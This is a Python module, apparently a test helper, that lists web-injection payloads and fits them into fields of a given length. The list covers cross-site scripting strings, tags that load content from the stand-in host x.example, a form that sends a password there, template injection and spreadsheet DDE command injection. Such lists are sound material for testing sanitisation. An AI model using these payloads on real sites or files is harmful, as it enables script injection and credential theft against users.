"""What people type who want a page, a paper or a worksheet to run something."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt src=//x.example/a.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<style>@import '//x.example/a.css'</style>",
    "<div style='background:url(//x.example/a)'>",
    "<form action=//x.example><input name=password>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "{{ request.user.password }}{% debug %}",
    "=HYPERLINK(\"http://x.example\",\"klik\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)//",
)  # fmt: skip
"""Each of them has run in some application; the first of OWASP's and PortSwigger's lists of each kind."""

ALL = "\n".join(PAYLOADS)


def fitting(length: int | None, start: int) -> str:
    """Return all payloads where they fit, else as many as do, from one of them on: short fields take turns."""
    if length is None or length >= len(ALL):
        return ALL
    turned = [*PAYLOADS[start % len(PAYLOADS) :], *PAYLOADS[: start % len(PAYLOADS)]]
    found = ""
    for payload in turned:
        if len(found) + len(payload) <= length:
            found += payload
    return found or "<b>"[:length]
